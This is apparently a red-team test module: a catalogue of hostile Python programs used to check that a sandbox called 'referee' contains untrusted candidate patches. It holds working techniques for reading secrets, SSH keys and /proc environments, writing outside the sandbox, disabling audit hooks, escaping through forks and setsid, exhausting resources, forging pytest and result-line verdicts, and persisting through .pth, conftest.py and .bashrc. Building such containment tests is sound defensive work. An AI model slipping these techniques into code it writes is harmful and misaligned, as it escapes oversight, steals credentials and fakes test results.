"""The hostile programs of the red-team suite, as text.

Every program defines ``count_vowels(text)``, the function under arbitration, and attacks
from inside it — the only code a candidate patch keeps is its imports and that one
function, and an oracle's program is called through it. After the attack it returns 5:
the oracles agree on the true value (the test asserts 5, the buggy code gives 4), so
arbitration goes on to the candidate patches, where "always 5" is a wrong patch that
must never be offered. What an attack could only see from inside (a file it read, a fork
that succeeded) it reports by returning ``"ESCAPED:<what>"`` instead: that string must
never appear in anything referee prints or stores.

Safety of the programs themselves (they run, through referee, as root in one of the
suite's modes): every path they touch is one the test passes in — all under the test's
temporary directory — and they never write through another process's /proc/<pid>/mem
or /proc/<pid>/fd to anything but a pipe of a sandbox process started by this test (its
command line names the test's directory): ``mem`` is only opened, to see whether it
could be, and closed again. Loops and sleeps are bounded.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

ESCAPED = "ESCAPED:"


@dataclass(frozen=True)
class Targets:
    """The paths and endpoints an attack aims at, all the test's own."""

    base: str  # the test's directory: every path below is under it
    secret: str  # a 0600 file holding the secret token
    ssh_key: str  # $HOME/.ssh/id_rsa, 0600, the secret token too
    victim: str  # a 0644 file outside the run directory, to be written or deleted
    drop: str  # a directory outside the run directory, where nothing may appear
    bashrc: str  # $HOME/.bashrc
    conftest: str  # the project's conftest.py (absent: must stay absent)
    site: str  # the interpreter's site-packages (a venv under the test's directory)
    tests: str  # the project's test module (the repository, readable by the user)
    unix_socket: str  # a path-named unix socket the test listens on
    tcp_port: int  # 127.0.0.1:port, TCP and UDP, the test listens
    env_name: str  # the sentinel environment variable referee runs with


@dataclass(frozen=True)
class Attack:
    name: str
    row: str  # the row of shared/data/realworld/README.md §3 (or the case) it covers
    imports: str
    body: str  # runs inside count_vowels; appends to ``escaped`` what got through
    trigger: str = "always"  # "always", or "patch": only when text != "aeiou"
    # probes (tests/red_team/probe.py) of which one must hold for it to be contained;
    # () means it must be contained everywhere today
    contained_by: tuple[str, ...] = ()
    notes: str = ""  # what contains it today, where that is not obvious

    def program(self, t: Targets) -> str:
        body = textwrap.dedent(self.body).strip("\n").format(t=t, E=ESCAPED)
        guard = "if text != 'aeiou':" if self.trigger == "patch" else "if True:"
        return (
            f"{textwrap.dedent(self.imports).strip()}\n\n\n"
            "def count_vowels(text):\n"
            "    escaped = []\n"
            f"    {guard}\n"
            "        try:\n"
            f"{textwrap.indent(body, ' ' * 12)}\n"
            "        except BaseException:\n"
            "            pass\n"
            "    if escaped:\n"
            # split, so that the program's own text (shown as evidence) does not hold it
            "        return 'ESC' + 'APED:' + ';'.join(str(e) for e in escaped)\n"
            "    return 5\n"
        ).lstrip()


# A patch keeps only its imports and the function: everything else lives in the body.
CTYPES = "import ctypes"

ATTACKS: list[Attack] = [
    # ------------------------------------------------------------------ reading
    Attack(
        "read-secret-file",
        "read any file outside (a 0600 secret)",
        "",
        """
        with open({t.secret!r}) as handle:
            escaped.append(handle.read())
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "read-ssh-key",
        "read any file outside (~/.ssh)",
        "",
        """
        with open({t.ssh_key!r}) as handle:
            escaped.append(handle.read())
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "read-repository",
        "read any file outside (the repository: the test module and its expected values)",
        "",
        """
        with open({t.tests!r}) as handle:
            if "assert" in handle.read():
                escaped.append("read the test module")
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "read-secret-ctypes",
        "read any file outside, by native code",
        CTYPES,
        """
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open({t.secret!r}.encode(), 0)
        if fd >= 0:
            buffer = ctypes.create_string_buffer(256)
            count = libc.read(fd, buffer, 255)
            escaped.append(buffer.raw[:max(count, 0)].decode(errors="replace"))
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "parent-environment",
        "the parent's environment",
        "import os",
        """
        value = os.environ.get({t.env_name!r})
        if value:
            escaped.append(value)
        for path in ("/proc/self/environ", "/proc/%d/environ" % os.getppid()):
            try:
                with open(path, "rb") as handle:
                    data = handle.read()
                if {t.env_name!r}.encode() in data:
                    escaped.append(data.decode(errors="replace"))
            except OSError:
                pass
        """,
    ),
    Attack(
        "proc-environ",
        "other processes' environ / cmdline via /proc",
        "import os",
        """
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            for part in ("environ", "cmdline"):
                try:
                    with open("/proc/%s/%s" % (pid, part), "rb") as handle:
                        data = handle.read()
                except OSError:
                    continue
                if {t.env_name!r}.encode() in data:
                    escaped.append(data.decode(errors="replace"))
        """,
    ),
    Attack(
        "proc-environ-ctypes",
        "other processes' environ via /proc, by native code",
        CTYPES + "\nimport os",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            fd = libc.open(("/proc/%s/environ" % pid).encode(), 0)
            if fd < 0:
                continue
            buffer = ctypes.create_string_buffer(65536)
            count = libc.read(fd, buffer, 65535)
            libc.close(fd)
            data = buffer.raw[:max(count, 0)]
            if {t.env_name!r}.encode() in data:
                escaped.append(data.decode(errors="replace"))
        """,
        notes="contained by the sandbox's user namespace (no ptrace rights over referee)",
    ),
    # ------------------------------------------------------------------ writing
    Attack(
        "write-plain",
        "plain open(outside, 'w'), rename, unlink",
        "import os",
        """
        for step in (
            lambda: open({t.victim!r}, "w").write("PWNED"),
            lambda: open({t.drop!r} + "/new.txt", "w").write("PWNED"),
            lambda: os.rename({t.victim!r}, {t.drop!r} + "/moved.txt"),
            lambda: os.unlink({t.victim!r}),
        ):
            try:
                step()
            except OSError:
                pass
        """,
    ),
    Attack(
        "hard-link",
        "os.link(outside, 'inside') then write through the new name",
        "import os",
        """
        os.link({t.victim!r}, "inside.txt")
        with open("inside.txt", "w") as handle:
            handle.write("PWNED")
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "dir-fd",
        "os.open(rel, dir_fd=...) after a chdir (the hook resolves against the cwd)",
        "import os",
        """
        here = os.getcwd()
        depth = len(here.split("/")) + len({t.victim!r}.split("/")) + 2
        os.makedirs("/".join(["d"] * depth))
        top = os.open(".", os.O_RDONLY)
        os.chdir("/".join(["d"] * depth))
        fd = top
        for _ in range(len(here.strip("/").split("/"))):
            fd = os.open("..", os.O_RDONLY, dir_fd=fd)
        target = os.open({t.victim!r}.lstrip("/"), os.O_WRONLY | os.O_TRUNC, dir_fd=fd)
        os.write(target, b"PWNED")
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "metadata-through-descriptor",
        "fchmod / setxattr / utime on a read-only descriptor",
        "import os",
        """
        fd = os.open({t.victim!r}, os.O_RDONLY)
        for step in (
            lambda: os.fchmod(fd, 0o777),
            lambda: os.utime(fd, (0, 0)),
            lambda: os.setxattr(fd, "user.pwned", b"1"),
        ):
            try:
                step()
            except OSError:
                pass
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "mkfifo-closure",
        "the original mkfifo reached through the wrapper's closure",
        "import os",
        """
        cells = [c.cell_contents for c in (os.mkfifo.__closure__ or ())]
        original = [c for c in cells if callable(c) and getattr(c, "__name__", "") == "mkfifo"]
        (original or [os.mkfifo])[0]({t.drop!r} + "/fifo")
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "hook-neutered",
        "the audit hook neutered from Python (gc + swapping the hook's __code__)",
        "import gc",
        """
        for thing in gc.get_objects():
            code = getattr(thing, "__code__", None)
            if getattr(thing, "__name__", "") != "hook" or code is None or code.co_argcount != 2:
                continue
            names = code.co_freevars
            source = "def outer():\\n"
            source += "".join("    %s = None\\n" % n for n in names)
            source += "    def hook(event, args):\\n"
            source += "        (%s)\\n" % "".join(n + ", " for n in names)
            source += "    return hook\\n"
            space = {{}}
            exec(source, space)
            thing.__code__ = space["outer"]().__code__
        with open({t.victim!r}, "w") as handle:
            handle.write("PWNED")
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "ctypes-write",
        "ctypes open / write / unlink",
        CTYPES,
        """
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open({t.victim!r}.encode(), 0o1 | 0o1000)  # O_WRONLY | O_TRUNC
        if fd >= 0:
            libc.write(fd, b"PWNED", 5)
            libc.close(fd)
        fd = libc.open(({t.drop!r} + "/ctypes.txt").encode(), 0o1 | 0o100, 0o644)  # O_CREAT
        if fd >= 0:
            libc.close(fd)
        """,
        contained_by=("fs_boundary",),
    ),
    # ------------------------------------------------------------------ processes
    Attack(
        "fresh-fork-exec",
        "a fresh copy of _posixsubprocess.fork_exec",
        "import importlib.util\nimport os",
        """
        spec = importlib.util.find_spec("_posixsubprocess")
        fresh = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(fresh)
        read_end, write_end = os.pipe()
        script = "echo PWNED > '%s'/spawned.txt; sleep 20" % {t.drop!r}
        pid = fresh.fork_exec(
            [b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (write_end,),
            None, None, -1, -1, -1, -1, -1, -1, read_end, write_end,
            True, False, -1, None, None, None, -1, None, True,
        )
        if pid > 0:
            escaped.append("spawned /bin/sh as %d" % pid)
        """,
        contained_by=("processes_bound",),
    ),
    Attack(
        "ctypes-fork-many",
        "ctypes fork ×250",
        CTYPES + "\nimport time",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        forked = 0
        for _ in range(250):
            pid = libc.fork()
            if pid == 0:
                time.sleep(2)
                libc._exit(0)
            if pid > 0:
                forked += 1
        if forked:
            escaped.append("forked %d" % forked)
        """,
        contained_by=("processes_bound",),
    ),
    Attack(
        "setsid-survivor",
        "double fork + setsid survivor (the outer bound reports it if it outlives referee)",
        CTYPES + "\nimport time",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.fork() == 0:
            libc.setsid()
            if libc.fork() == 0:
                time.sleep(60)  # bounded: the outer namespace ends it anyway
            libc._exit(0)
        """,
    ),
    Attack(
        "proc-mem",
        "writing /proc/<pid>/mem of a same-user process (opened, never written)",
        "import os",
        """
        me = os.getpid()
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == me:
                continue
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as handle:
                    if b"referee" not in handle.read():
                        continue
                fd = os.open("/proc/%s/mem" % pid, os.O_RDWR)
            except OSError:
                continue
            os.close(fd)  # never written: that it opens is the escape
            escaped.append("opened /proc/%s/mem" % pid)
        """,
    ),
    # ------------------------------------------------------------------ network
    Attack(
        "unix-socket",
        "path-named unix socket via _socket (the family is a plain int)",
        "import _socket",
        """
        sock = _socket.socket(1, 1)  # AF_UNIX, SOCK_STREAM
        sock.settimeout(2)
        sock.connect({t.unix_socket!r})
        sock.send(b"PWNED")
        sock.close()
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "tcp-udp-loopback",
        "TCP/UDP to 127.0.0.1",
        "import socket",
        """
        try:
            with socket.create_connection(("127.0.0.1", {t.tcp_port!r}), timeout=2) as conn:
                conn.sendall(b"PWNED")
        except OSError:
            pass
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"PWNED", ("127.0.0.1", {t.tcp_port!r}))
        """,
    ),
    # ------------------------------------------------------------------ resources
    Attack(
        "memory",
        "memory per process (a 10 GB allocation)",
        "",
        """
        block = bytearray(10 * 1024 ** 3)
        escaped.append("allocated %d bytes" % len(block))
        """,
    ),
    Attack(
        "threads",
        "threads",
        "import threading\nimport time",
        """
        started = 0
        for _ in range(2000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            started += 1
        """,
    ),
    Attack(
        "output",
        "output (printing a gigabyte)",
        "",
        """
        line = "x" * 1023
        for _ in range(1024 * 1024):
            print(line)
        """,
    ),
    Attack(
        "timeout",
        "timeouts (an endless loop)",
        "",
        """
        while True:
            pass
        """,
    ),
    Attack(
        "timeout-in-patch",
        "timeouts, in the candidate patch only (the oracles are honest)",
        "",
        """
        while True:
            pass
        """,
        trigger="patch",
    ),
    Attack(
        "memory-in-patch",
        "memory, in the candidate patch only (the oracles are honest)",
        "",
        """
        blocks = []
        while True:
            blocks.append(bytearray(64 * 1024 ** 2))
        """,
        trigger="patch",
    ),
    Attack(
        "forked-memory",
        "three forked children × 400 MB (the limit is per process)",
        CTYPES + "\nimport os\nimport time",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        read_end, write_end = os.pipe()
        children = 0
        for _ in range(3):
            pid = libc.fork()
            if pid == 0:
                try:
                    block = bytearray(400 * 1024 ** 2)
                    block[::4096] = b"x" * len(block[::4096])  # every page, really held
                    os.write(write_end, b"1")
                    time.sleep(1)
                finally:
                    libc._exit(0)
            if pid > 0:
                children += 1
        os.close(write_end)
        held = 0
        deadline = time.time() + 6
        while children and time.time() < deadline and held < children:
            chunk = os.read(read_end, 8)
            if not chunk:
                break
            held += len(chunk)
        if held >= 2:
            escaped.append("%d children held 400 MB each" % held)
        """,
        contained_by=("processes_bound",),
    ),
    Attack(
        "disk",
        "disk: many files, each under the size limit (256 MB at most, then it stops)",
        "",
        """
        written = 0
        for index in range(32):
            with open("fill-%d.bin" % index, "wb") as handle:
                handle.write(b"\\0" * (8 * 1024 ** 2))
            written += 8
        if written >= 256:
            escaped.append("wrote %d MB" % written)
        """,
        contained_by=("disk_bound",),
    ),
    # ------------------------------------------------------------------ verdicts
    Attack(
        "forged-verdict-fifo",
        "a candidate patch that writes '3 passed' to the descriptors it inherited, exits 0",
        "import os",
        """
        for fd in range(1, 64):
            try:
                os.write(fd, b"\\n==== 3 passed in 0.01s ====\\n")
            except OSError:
                pass
        os._exit(0)
        """,
        trigger="patch",
    ),
    Attack(
        "forged-verdict-report",
        "a candidate patch that wraps _pytest.reports.TestReport.from_item_and_call",
        "",
        """
        import _pytest.reports as reports  # here: a reference module imports it outside pytest

        cls = reports.TestReport
        if not getattr(cls, "_forged", False):
            original = cls.from_item_and_call

            def forged(item, call):
                report = original(item, call)
                report.outcome = "passed"
                report.longrepr = None
                return report

            cls.from_item_and_call = staticmethod(forged)
            cls._forged = True
        """,
        trigger="patch",
    ),
    Attack(
        "forged-verdict-channel",
        "a candidate patch that writes referee's own result line (the truth it was told)",
        "import json\nimport os",
        """
        line = json.dumps({{"result": "ok", "value": "5", "json": True,
                           "value_json": [["ok", "5"]] * 16}}) + "\\n"
        for fd in range(3, 64):
            try:
                os.write(fd, line.encode())
            except OSError:
                pass
        os._exit(0)
        """,
        trigger="patch",
    ),
    Attack(
        "survivor-forges-later-runs",
        "a survivor that forges the result line of every later run through /proc/<pid>/fd",
        CTYPES + "\nimport json\nimport os\nimport time",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.fork() == 0:
            libc.setsid()
            if libc.fork() == 0:
                word = "FOR" + "GED"  # split: the program's text is shown as evidence
                forged = (json.dumps({{"result": "ok", "value": repr(word), "json": True,
                                       "value_json": word}}) + "\\n").encode()
                me = os.getpid()
                deadline = time.time() + 20
                while time.time() < deadline:
                    for pid in os.listdir("/proc"):
                        if not pid.isdigit() or int(pid) == me:
                            continue
                        try:
                            with open("/proc/%s/cmdline" % pid, "rb") as handle:
                                # only sandbox processes of this test
                                if {t.base!r}.encode() not in handle.read():
                                    continue
                            names = os.listdir("/proc/%s/fd" % pid)
                        except OSError:
                            continue
                        for name in names:
                            path = "/proc/%s/fd/%s" % (pid, name)
                            try:
                                if not os.readlink(path).startswith("pipe:"):
                                    continue  # never a file: pipes only
                                fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                                os.write(fd, forged + b"\\n==== 3 passed in 0.01s ====\\n")
                                os.close(fd)
                            except OSError:
                                pass
                    time.sleep(0.05)
            libc._exit(0)
        """,
        notes="contained by the sandboxes' separate user namespaces (no ptrace rights)",
    ),
    # ------------------------------------------------------------------ persistence
    Attack(
        "persist-pth",
        "persistence: a .pth in site-packages",
        CTYPES,
        """
        path = {t.site!r} + "/zz_red_team.pth"
        line = "import os; open(%r, 'w').write('PWNED')\\n" % ({t.drop!r} + "/pth-ran")
        try:
            with open(path, "w") as handle:
                handle.write(line)
        except OSError:
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.open(path.encode(), 0o1 | 0o100 | 0o1000, 0o644)  # O_WRONLY|O_CREAT|O_TRUNC
            if fd >= 0:
                libc.write(fd, line.encode(), len(line.encode()))
                libc.close(fd)
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "persist-conftest",
        "persistence: a conftest.py in the project",
        CTYPES,
        """
        path = {t.conftest!r}
        line = "open(%r, 'w').write('PWNED')\\n" % ({t.drop!r} + "/conftest-ran")
        try:
            with open(path, "w") as handle:
                handle.write(line)
        except OSError:
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.open(path.encode(), 0o1 | 0o100 | 0o1000, 0o644)
            if fd >= 0:
                libc.write(fd, line.encode(), len(line.encode()))
                libc.close(fd)
        """,
        contained_by=("fs_boundary",),
    ),
    Attack(
        "persist-bashrc",
        "persistence: ~/.bashrc (HOME is the test's)",
        CTYPES,
        """
        path = {t.bashrc!r}
        line = "\\necho PWNED > %r\\n" % ({t.drop!r} + "/bashrc-ran")
        try:
            with open(path, "a") as handle:
                handle.write(line)
        except OSError:
            libc = ctypes.CDLL(None, use_errno=True)
            fd = libc.open(path.encode(), 0o1 | 0o2000)  # O_WRONLY | O_APPEND
            if fd >= 0:
                libc.write(fd, line.encode(), len(line.encode()))
                libc.close(fd)
        """,
        contained_by=("fs_boundary",),
    ),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}
